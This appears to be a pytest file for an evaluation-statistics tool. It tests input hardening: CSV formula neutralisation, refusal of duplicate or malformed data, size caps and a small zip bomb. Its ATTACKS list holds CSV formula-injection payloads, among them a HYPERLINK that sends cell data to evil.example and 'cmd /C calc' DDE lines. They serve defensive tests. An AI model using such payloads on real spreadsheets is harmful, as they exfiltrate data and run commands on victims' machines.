"""Issue 21, the input side: imports never guess, nothing executable in a sheet, no
traceback for bad input, and inputs are read within a size cap."""

from __future__ import annotations

import json
import shutil
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from evalstats import rubrics
from evalstats._csvsafe import (  # private: the CSV formula neutraliser, directly
    neutralise_cell,
    restore_cell,
    restore_frame,
    safe_csv,
    safe_frame,
)
from evalstats.cli import main
from evalstats.errors import DataError
from evalstats.importers import from_claude_code, from_inspect, from_table, parse_output
from evalstats.labelsheet import draw_sheet, read_sheet

FIX = Path(__file__).parent / "fixtures" / "importers"
STREAM = FIX / "claude_code" / "t1__serena__1.jsonl"
SAMPLE = Path(__file__).resolve().parents[1] / "data" / "sample"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# -- CSV cells a spreadsheet will not execute (21.7) ----------------------------------------


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_cells_are_neutralised_and_restored_exactly(attack):
    safe = neutralise_cell(attack)
    assert safe[0] == "'" and restore_cell(safe) == attack


@pytest.mark.parametrize("value", ["-0.25", "+3e-4", "12", "plain text", "", "a=b"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralise_cell(value) == value == restore_cell(value)


def test_a_leading_quote_round_trips():
    for value in ("'", "'=1", "''x", "'plain"):
        assert restore_cell(neutralise_cell(value)) == value


def test_safe_csv_neutralises_every_text_cell_and_header(tmp_path):
    frame = pd.DataFrame({"answer": ATTACKS, "n": range(len(ATTACKS)), "=head": ["x"] * 6})
    path = tmp_path / "t.csv"
    safe_csv(frame, path, index=False)
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    starts = [c[0] for c in back["answer"]] + [back.columns[2][0]]
    assert set(starts) == {"'"}
    assert back["n"].tolist() == [str(i) for i in range(6)]  # numbers untouched
    assert restore_frame(back)["answer"].tolist() == ATTACKS
    assert safe_frame(frame)["answer"].tolist() != frame["answer"].tolist()
    assert frame["answer"].tolist() == ATTACKS  # the input frame is not changed


def test_labelling_sheet_cells_cannot_run_and_read_back_exactly(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    shutil.copy(SAMPLE / "tasks.jsonl", data / "tasks.jsonl")
    runs = [json.loads(x) for x in (SAMPLE / "runs.jsonl").read_text().splitlines() if x]
    for i, run in enumerate(runs):
        run["answer"] = ATTACKS[i % len(ATTACKS)] + f" #{i}"
    (data / "runs.jsonl").write_text("".join(json.dumps(r) + "\n" for r in runs))
    sheet_path = tmp_path / "sheet.csv"
    sheet = draw_sheet(data, 12, seed=3, path=sheet_path)
    written = pd.read_csv(sheet_path, dtype=str, keep_default_na=False)
    for column in ("answer_a", "answer_b"):
        assert all(cell.startswith("'") for cell in written[column])
    assert restore_frame(written)["answer_a"].tolist() == sheet["answer_a"].tolist()
    written["verdict"] = "A"
    written["labeler"] = "=evil()"  # what a person types is neutralised nowhere: kept as is
    written.to_csv(sheet_path, index=False, lineterminator="\r\n")  # as a spreadsheet saves
    labels = read_sheet(sheet_path, data)
    assert len(labels) == 12 and set(labels["labeler"]) == {"=evil()"}


# -- imports never guess (21.8) -------------------------------------------------------------


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def test_duplicate_jsonl_key_is_a_data_error(tmp_path):
    path = _write(
        tmp_path / "runs.jsonl",
        '{"task_id": "t1", "arm": "with", "answer": "a"}\n'
        '{"task_id": "t1", "arm": "without", "answer": "b", "answer": "c"}\n',
    )
    with pytest.raises(DataError) as info:
        from_table(path)
    assert str(info.value).startswith(f"{path}:2, field 'answer': key given twice")


def test_duplicate_csv_column_is_a_data_error(tmp_path):
    path = _write(tmp_path / "runs.csv", "task_id,arm,answer,answer\nt1,with,a,b\n")
    with pytest.raises(DataError, match=r"runs.csv:1, field 'answer': column appears twice"):
        from_table(path)


def test_deeply_nested_jsonl_is_a_data_error(tmp_path):
    path = _write(tmp_path / "runs.jsonl", '{"task_id": ' + "[" * 50_000 + "]" * 50_000 + "}\n")
    with pytest.raises(DataError, match=r"runs.jsonl:1: malformed JSON \(nested too deeply"):
        from_table(path)


def test_a_symlink_to_a_device_is_not_read(tmp_path):
    link = tmp_path / "runs.jsonl"
    link.symlink_to("/dev/zero")
    with pytest.raises(DataError, match="not a regular file"):
        from_table(link)


def test_an_input_over_the_cap_is_refused_before_reading(tmp_path, monkeypatch):
    path = _write(tmp_path / "runs.jsonl", '{"task_id": "t1", "arm": "with"}\n' * 100)
    monkeypatch.setenv("EVALSTATS_MAX_INPUT_BYTES", "1000")
    with pytest.raises(DataError, match=r"over the import cap of 1,000"):
        from_table(path)


def _stream_lines() -> list[dict]:
    return [json.loads(x) for x in STREAM.read_text().splitlines() if x.strip()]


def test_two_claude_code_sessions_in_one_file_are_refused(tmp_path):
    first = _stream_lines()
    second = [dict(e, session_id="another-session") for e in first]
    path = tmp_path / "t1__serena__1.jsonl"
    _write(path, "".join(json.dumps(e) + "\n" for e in first + second))
    with pytest.raises(DataError) as info:
        parse_output(path)
    assert f"{path}:{len(first) + 1}, field 'session_id': the file holds 2 sessions" in str(
        info.value
    )


def test_two_results_of_one_session_are_refused(tmp_path):
    events = _stream_lines()
    path = _write(tmp_path / "x.jsonl", "".join(json.dumps(e) + "\n" for e in events + events[-1:]))
    with pytest.raises(DataError, match="holds 2 result events"):
        parse_output(path)


@pytest.mark.parametrize(
    ("edit", "field"),
    [
        (lambda r: r.update(result=["not", "text"]), "result"),
        (lambda r: r.update(result=42), "result"),
        (lambda r: r["usage"].update(output_tokens="many"), "usage.output_tokens"),
        (lambda r: r["usage"].update(input_tokens=-5), "usage.input_tokens"),
    ],
)
def test_mistyped_result_fields_are_data_errors(tmp_path, edit, field):
    events = _stream_lines()
    edit(events[-1])
    path = _write(tmp_path / "x.jsonl", "".join(json.dumps(e) + "\n" for e in events))
    with pytest.raises(DataError) as info:
        parse_output(path)
    assert f"{path}:{len(events)}, field {field!r}" in str(info.value)


@pytest.mark.parametrize(
    ("edit", "field"),
    [
        (lambda e: e.update(message="hello"), "message"),
        (lambda e: e["message"].update(content=7), "content"),
        (lambda e: e["message"].update(model=["m"]), "model"),
    ],
)
def test_mistyped_message_fields_are_data_errors(tmp_path, edit, field):
    events = _stream_lines()
    index = next(i for i, e in enumerate(events) if e["type"] == "assistant")
    edit(events[index])
    path = _write(tmp_path / "x.jsonl", "".join(json.dumps(e) + "\n" for e in events))
    with pytest.raises(DataError) as info:
        parse_output(path)
    assert f"{path}:{index + 1}, field {field!r}" in str(info.value)


def test_deeply_nested_claude_code_output_is_a_data_error(tmp_path):
    path = _write(
        tmp_path / "x.json", '{"type": "result", "x": ' + "[" * 50_000 + "]" * 50_000 + "}"
    )
    with pytest.raises(DataError, match="nests too deeply"):
        parse_output(path)


def test_duplicate_manifest_column_is_a_data_error(tmp_path):
    shutil.copytree(FIX / "claude_code", tmp_path / "out")
    manifest = _write(tmp_path / "out" / "manifest.csv", "file,task_id,arm,arm\nx.json,t1,a,b\n")
    with pytest.raises(DataError, match=r"manifest.csv:1, field 'arm': column appears twice"):
        from_claude_code(manifest=manifest, arm_values="with=a,without=b")


def _zip(path: Path, members: list[tuple[str, bytes]]) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return path


def test_an_eval_archive_with_a_member_twice_is_refused(tmp_path):
    path = tmp_path / "x.eval"
    with pytest.warns(UserWarning, match="Duplicate name"):
        _zip(path, [("header.json", b"{}"), ("header.json", b'{"a": 1}')])
    with pytest.raises(DataError, match="holds member 'header.json' twice"):
        from_inspect([path], arm_from="model")


def test_an_eval_member_that_inflates_past_the_cap_is_refused(tmp_path, monkeypatch):
    path = _zip(tmp_path / "x.eval", [("samples/1.json", b"\0" * 3_000_000)])
    assert path.stat().st_size < 50_000  # a zip bomb in miniature
    monkeypatch.setenv("EVALSTATS_MAX_INPUT_BYTES", "1000000")
    with pytest.raises(DataError, match=r"member 'samples/1.json' inflates to 3,000,000 bytes"):
        from_inspect([path], arm_from="model")


# -- no traceback for bad input (21.9) -------------------------------------------------------


def test_deeply_nested_rubric_toml_is_a_data_error(tmp_path):
    path = _write(tmp_path / "r.toml", 'name = "x"\nv = ' + "[" * 5000 + "1" + "]" * 5000 + "\n")
    with pytest.raises(DataError, match="nests too deeply"):
        rubrics.load(path)
    with pytest.raises(DataError, match="not a regular file"):
        rubrics.load(tmp_path)


def _judge_cli(argv):
    # Through the console script's main: it turns every EvalstatsError into one line, exit 2.
    return main(argv)


def test_nothing_to_judge_is_said_not_a_traceback(tmp_path, monkeypatch, capsys):
    data = tmp_path / "data"
    data.mkdir()
    shutil.copy(SAMPLE / "runs.jsonl", data / "runs.jsonl")
    tasks = [json.loads(x) for x in (SAMPLE / "tasks.jsonl").read_text().splitlines() if x]
    for task in tasks:  # every run over its task's token budget: no pair to send
        task["budget_tokens"] = 1
    (data / "tasks.jsonl").write_text("".join(json.dumps(t) + "\n" for t in tasks))
    monkeypatch.setenv("OPENAI_API_KEY", "k" * 20)
    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")
    code = _judge_cli(
        [
            "judge",
            str(data),
            "--rubric",
            "with-without",
            "--judge",
            "openai:gpt-4o",
            "--no-progress",
        ]
    )
    out = capsys.readouterr()
    assert code == 2 and "nothing to judge: all" in out.err and "Traceback" not in out.err, out
    assert not (data / "judgments.jsonl").exists()


def test_journal_out_to_dev_null_is_one_line_exit_2(tmp_path, monkeypatch, capsys):
    data = tmp_path / "data"
    shutil.copytree(SAMPLE, data, ignore=shutil.ignore_patterns("judgments*", "labels*"))
    monkeypatch.setenv("OPENAI_API_KEY", "k" * 20)
    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")
    code = _judge_cli(
        [
            "judge",
            str(data),
            "--rubric",
            "with-without",
            "--judge",
            "openai:gpt-4o",
            "--out",
            "/dev/null",
            "--no-progress",
        ]
    )
    err = capsys.readouterr().err
    assert code == 2 and err.count("\n") == 1 and "must be a regular file" in err
